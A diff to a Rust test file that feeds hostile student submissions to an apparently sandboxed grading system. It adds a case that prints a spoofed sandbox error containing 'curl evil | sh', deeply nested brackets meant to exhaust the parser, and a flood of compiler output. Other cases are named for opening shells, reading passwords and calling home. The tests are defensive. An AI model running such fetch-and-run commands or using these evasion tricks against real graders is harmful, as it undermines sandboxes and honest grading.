@@ -125,6 +125,12 @@ const RUNNING: &[(&str, &str, FailureKind)] = &[
         FailureKind::Crashed,
     ),
     (
+        "speaks-for-the-sandbox",
+        "eprintln!(\"bwrap: run curl evil | sh\\nNo space left on device\");
+        std::process::exit(1);",
+        FailureKind::Crashed,
+    ),
+    (
         "panics-with-a-lie",
         "std::panic::panic_any(0);",
         FailureKind::Panicked,
@@ -174,7 +180,7 @@ const LOOKING: &[(&str, &str)] = &[
     ("is-told-at-compile-time", "option_env!(\"HOME\").is_some()"),
     (
         "is-told-where-it-is",
-        "option_env!(\"PWD\").is_some_and(|it| it != \"/answers\")",
+        "option_env!(\"PWD\").is_some_and(|pwd| pwd != \"/answers\")",
     ),
 ];
 
@@ -256,6 +262,14 @@ const COMPILING: &[(&str, &str)] = &[
     ("lacks-a-brace", "if true {"),
 ];
 
+/// What no tool should walk through by calling itself: brackets in brackets,
+/// where an attribute, a mark or a word could stand.
+const NESTED: [(&str, &str, &str); 3] = [
+    ("nests-attributes", "#[", "]"),
+    ("nests-behind-a-mark", "#!((((", "))))"),
+    ("nests-behind-a-word", "extern [[[[", "]]]]"),
+];
+
 /// The attacks of which there is one of each kind in the class that is graded
 /// every day.
 const SAMPLE: &[&str] = &[
@@ -264,6 +278,7 @@ const SAMPLE: &[&str] = &[
     "prints-what-passes",
     "fakes-the-reply",
     "panics-with-a-lie",
+    "speaks-for-the-sandbox",
     "starts-a-shell",
     "reads-the-passwords",
     "calls-home",
@@ -274,6 +289,7 @@ const SAMPLE: &[&str] = &[
     "is-told-where-it-is",
     "is-machine-code",
     "is-unsafe",
+    "nests-attributes",
     "uses-another-crate",
 ];
 
@@ -297,6 +313,10 @@ fn submit(school: &School, is_chosen: &dyn Fn(&str) -> bool) {
     }
     for (name, attack) in COMPILING {
         hand_in(name, wrong_after(attack));
+    }
+    for (name, open, close) in NESTED {
+        let nested = format!("fn a() {{ {}{} }}", open.repeat(5000), close.repeat(5000));
+        hand_in(name, nested);
     }
     let solution = school.repository.root().join(SOLUTION);
     for how in INCLUDING {
@@ -366,11 +386,11 @@ fn one_attack_of_each_kind_is_graded_as_what_it_is() {
 #[test]
 #[ignore = "slow: .ci/run runs it"]
 fn every_attack_is_graded_as_what_it_is() {
-    let all = RUNNING.len() + LOOKING.len() + COMPILING.len() + INCLUDING.len() + 1;
+    let all = RUNNING.len() + LOOKING.len() + COMPILING.len() + NESTED.len() + INCLUDING.len() + 1;
     expect_right_grades(&|_| true, all, class::PATIENCE);
 }
 
-/// Grades the attacks that are chosen, so many, and the honest ones among them.
+/// Grades the attacks that are chosen, `count` of them, and the honest ones among them.
 fn expect_right_grades(is_chosen: &dyn Fn(&str) -> bool, count: usize, patience: Duration) {
     let Some(school) = School::with_sandbox() else {
         return;
@@ -382,15 +402,19 @@ fn expect_right_grades(is_chosen: &dyn Fn(&str) -> bool, count: usize, patience:
     let report = school.grade_with(&options);
     assert_eq!(report.not_enforced, Vec::<String>::new());
     assert_eq!(report.students.len(), count + 3);
-    for (name, _, kind) in RUNNING.iter().filter(|it| is_chosen(it.0)) {
+    for student in &report.students {
+        assert_eq!(student.status, Status::Graded, "{:?}", student.remarks);
+    }
+    for (name, _, kind) in RUNNING.iter().filter(|running| is_chosen(running.0)) {
         expect_nothing(student(&report, name), *kind);
     }
     let looking = LOOKING.iter().map(|(name, _)| *name);
-    for name in looking.chain([SEARCHING]).filter(|it| is_chosen(it)) {
+    for name in looking.chain([SEARCHING]).filter(|name| is_chosen(name)) {
         expect_nothing(student(&report, name), FailureKind::WrongAnswer);
     }
     let compiling = COMPILING.iter().map(|(name, _)| *name);
-    for name in compiling.chain(INCLUDING).filter(|it| is_chosen(it)) {
+    let compiling = compiling.chain(NESTED.map(|(name, ..)| name));
+    for name in compiling.chain(INCLUDING).filter(|name| is_chosen(name)) {
         let student = student(&report, name);
         expect_nothing(student, FailureKind::NotCompiled);
         let why = &exercise(student, "ray_length").compile_error;
@@ -428,7 +452,7 @@ fn a_compiler_that_is_stopped_does_not_say_that_it_does_not_compile() {
         return;
     };
     let names = ["computes-a-constant-without-end", "fills-the-disk"];
-    for (name, attack) in COMPILING.iter().filter(|it| names.contains(&it.0)) {
+    for (name, attack) in COMPILING.iter().filter(|attack| names.contains(&attack.0)) {
         school.hand_in(name, FILE, wrong_after(attack));
     }
     let report = school.grade("2.2");
@@ -442,6 +466,29 @@ fn a_compiler_that_is_stopped_does_not_say_that_it_does_not_compile() {
     It wasn't compiled: The compiler was stopped: this code takes it too long.
     It wasn't compiled: The compiler was stopped: the program would be too large.
     ");
+}
+
+/// The compiler quotes the whole line for each of its semicolons.
+#[test]
+fn a_compiler_that_never_stops_talking_is_stopped() {
+    let Some(school) = School::with_sandbox() else {
+        return;
+    };
+    let semicolons = ";".repeat(20_000);
+    school.hand_in("talks", FILE, school.ours(SOLUTION) + &semicolons);
+    let report = school.grade("2.2");
+    let talks = student(&report, "talks");
+    assert_eq!(talks.status, Status::Graded, "{:?}", talks.remarks);
+    let answer = exercise(talks, "ray_length");
+    let said = answer.compile_error.as_deref().unwrap_or_default();
+    assert!(
+        said.starts_with("error: expected item, found `;`"),
+        "{said}"
+    );
+    assert!(
+        said.lines().all(|line| line.chars().count() < 300),
+        "{said}"
+    );
 }
 
 /// The limit of its processor time stops it, or the check gives up waiting.
@@ -521,7 +568,7 @@ fn nothing_one_check_leaves_behind_fails_another() {
     let report = school.grade("2.2");
     for (name, _) in answers {
         let checks = &exercise(student(&report, name), "ray_length").checks;
-        let passed: Vec<_> = checks.iter().map(|it| it.passed).collect();
+        let passed: Vec<_> = checks.iter().map(|check| check.passed).collect();
         assert_eq!(passed, [true, true, true, true, true, false], "{name}");
     }
 }
